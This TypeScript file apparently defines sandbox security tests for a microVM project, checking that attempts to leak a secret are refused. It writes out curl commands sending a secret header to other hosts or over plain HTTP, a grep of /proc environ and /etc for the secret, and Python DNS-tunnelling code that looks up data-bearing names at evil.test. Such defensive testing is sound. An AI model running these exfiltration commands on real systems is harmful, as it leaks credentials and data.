import { spawnSync } from "node:child_process";
import { readdirSync } from "node:fs";
import { join } from "node:path";
import { paths } from "../../../packages/microvm/src/host/paths.ts";
import type { Attempt } from "../attempt.ts";
import type { Outside } from "../world.ts";
import { python, withSent } from "./by.ts";
import { SECRET } from "./echoes.ts";
import { RULE } from "./outside.ts";

const KEPT = `^(?![^]*${SECRET})[^]*`;
const PLACEHOLDER = "emberbox-secret-[0-9a-f]{32}";

/** A secret's value, for another host than its own, or into the sandbox. */
export const secrets: readonly Attempt[] = [
  withSent(
    "secret-elsewhere",
    "have a secret's value sent to another host",
    `curl -sSk -H "X-Key: $KEY" https://cdn.test:$TLS/`,
    new RegExp(`${KEPT}sent: GET / cdn.test:\\d+ ${PLACEHOLDER}`),
  ),
  withSent(
    "secret-plain",
    "have it sent without TLS",
    `curl -sS -H "X-Key: $KEY" http://api.test:$WEB/`,
    new RegExp(`${KEPT}sent: GET / api.test:\\d+ ${PLACEHOLDER}`),
  ),
  withSent(
    "secret-back",
    "have it sent back",
    `curl -sS -H "X-Key: $KEY" https://api.test:$TLS/`,
    new RegExp(`^GOT key \\*{${SECRET.length}} [^]*sent: GET / api.test:\\d+ ${SECRET}$`),
  ),
  withSent(
    "secret-files",
    "find it in the machine",
    `grep -rlsE '${SECRET.slice(0, 5)}[${SECRET[5]}]${SECRET.slice(6)}' /proc/[0-9]*/environ /etc /home /run /opt | wc -l`,
    /^0 sent: $/,
  ),
  withSent(
    "rules-plain",
    "have a rule's header sent without TLS",
    "curl -sS http://cdn.test:$WEB/; curl -sS https://cdn.test:$TLS/",
    new RegExp(`sent: GET / cdn.test:\\d+ undefined, GET / cdn.test:\\d+ undefined ${RULE}$`),
  ),
  {
    id: "net.rules-on-disk",
    tries: "find a rule's header or a secret's value in what a pause keeps on the disk",
    refusedBy: "the engine",
    async run({ outside }) {
      const { listed: sandbox } = await outside();
      await sandbox.pause();
      const kept = join(paths(process.env).state, "paused", sandbox.sandboxId);
      const { stdout } = spawnSync("grep", ["-rlaF", "-e", RULE, "-e", SECRET, kept]);
      const files = readdirSync(kept);
      await sandbox.connect();
      return { delivered: files.join(", "), seen: `found in: ${stdout}` };
    },
    refused: /^found in: $/,
  },
];

const dns = (id: string, tries: string, code: string): Attempt => ({
  id: `net.${id}`,
  tries,
  refusedBy: "the guest's resolver",
  async run({ outside }) {
    const { run, listed: sandbox, asked: queries }: Outside = await outside();
    const from = queries.length;
    const outcome = await run(sandbox, python(code));
    const asked = queries.slice(from).join(" ");
    return { ...outcome, seen: `${outcome.seen.split(" ")[0]}, asked for: ${asked}` };
  },
  refused: /^done, asked for: $/,
});

/** To speak to the world through the name server. */
export const tunnels: readonly Attempt[] = [
  dns(
    "dns-tunnel",
    "carry data out in names that are looked up",
    "for n in range(50):\n  try: socket.gethostbyname(f'data{n}.evil.test'); socket.gethostbyname(f'data{n}.api.test')\n  except OSError: pass\nprint('done')",
  ),
  dns(
    "dns-types",
    "look up records other than addresses",
    "for kind in [2, 5, 10, 15, 16, 28, 33, 65, 255]:\n  s = socket.socket(type=socket.SOCK_DGRAM); s.settimeout(5); s.connect(('127.0.0.1', 53))\n  s.send(b'ab\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x03api\\x04test\\0' + bytes([0, kind, 0, 1]))\n  if s.recv(999)[6:8] != b'\\0\\0': print('GOT')\nprint('done')",
  ),
];
